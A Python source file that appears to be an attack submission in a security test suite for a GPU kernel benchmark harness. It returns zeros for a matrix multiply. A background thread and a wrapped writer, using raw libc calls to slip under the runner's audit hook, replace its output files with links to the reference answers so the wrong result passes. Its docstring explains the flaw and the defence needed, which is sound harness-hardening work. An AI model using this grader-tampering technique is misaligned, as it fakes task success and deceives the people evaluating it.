"""Attack PG-thread_fd (task matmul): a background thread that replaces the
candidate's output files, after the harness wrote them, by the reference's.

Adapts: gpu-mode/pygpubench exploits/submission_thread_fd.py at commit
87bb46dfef7f1c5d596c12b2e3ec14664b9f2319 (our own code).  There the submission duplicates the result file's
descriptor at import, and a background thread waits until the harness has
written its results and then overwrites them with fake ones (an atexit
hook as a second try).

What it does: returns zeros.  At import it duplicates every descriptor it
holds (work/attack-thread-fd.marker lists them) and starts a thread that
watches its output directory (party/, beside its working directory work/):
each file that appears there, once written, is replaced by a hard link to
the reference's file of the same slot and call (../runner/tensors/NAME
with -cand turned into -ref; the names follow the event log's), or, where
the link is refused, by a symbolic link to it (libc's link, symlink and
rename, below the runner's Python audit hook).  The same swap is made
synchronously right after the harness writes the file (kaudit_tensors's
writer wrapped), so the race is not needed to win; atexit tries once more.
Each swap's result goes to the marker.

What it exploits (in pygpubench): the result file stays writable by the
submission after the harness wrote it, and the parent reads whatever is
there at the end.

What a correct defence must do: the reference's files out of the
candidate's reach (no link to them can be made: Landlock, another uid),
and the runner take the candidate's file only as a regular file of its own
(O_NOFOLLOW, one link), so that a link is refused and this candidate's
zeros are not semantic PASS.
"""
import atexit
import ctypes
import os
import sys
import threading
import time

import torch
import torch.nn as nn

_PARTY = os.path.join(os.path.dirname(os.getcwd()), "party")
_RUNNER = os.path.join(os.path.dirname(os.getcwd()), "runner", "tensors")
_done = set()
_libc = ctypes.CDLL(None, use_errno=True)


def _raw(fn):
    # libc's link(2)/symlink(2), below the runner's Python audit hook
    def make(src, dst):
        if getattr(_libc, fn)(src.encode(), dst.encode()) != 0:
            e = ctypes.get_errno()
            raise OSError(e, os.strerror(e))
    return make


def _note(s):
    try:
        with open(os.path.join(os.getcwd(), "attack-thread-fd.marker"), "a") as f:
            f.write(s + "\n")
    except OSError:
        pass


def _swap(path):
    name = os.path.basename(path)
    if name in _done or name.endswith((".tmp", ".swap")):
        return
    _done.add(name)
    ref = os.path.join(_RUNNER, name.replace("-cand", "-ref"))
    tmp = path + ".swap"
    for how, make in (("hard link", _raw("link")), ("symlink", _raw("symlink"))):
        try:
            make(ref, tmp)
            if _libc.rename(tmp.encode(), path.encode()) != 0:
                e = ctypes.get_errno()
                raise OSError(e, os.strerror(e))
            _note("%s: %s to %s: ok" % (name, how, ref))
            return
        except OSError as exc:
            _note("%s: %s to %s: %s" % (name, how, ref, exc.strerror))


def _watch():
    while True:
        try:
            for n in os.listdir(_PARTY):
                _swap(os.path.join(_PARTY, n))
        except OSError:
            pass
        time.sleep(0.001)


_dups = []
for _fd in range(3, 1024):
    try:
        _dups.append((_fd, os.dup(_fd)))
    except OSError:
        pass
_note("duplicated %s" % _dups)
threading.Thread(target=_watch, daemon=True).start()
atexit.register(lambda: [_swap(os.path.join(_PARTY, n)) for n in os.listdir(_PARTY)])

_kt = sys.modules.get("kaudit_tensors")
if _kt is not None and hasattr(_kt, "write_tensor_file"):
    _orig = _kt.write_tensor_file

    def _write_then_swap(path, *a, **k):
        r = _orig(path, *a, **k)
        _swap(path)
        return r
    _kt.write_tensor_file = _write_then_swap


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        return torch.zeros(a.shape[0], b.shape[1], dtype=a.dtype, device=a.device)
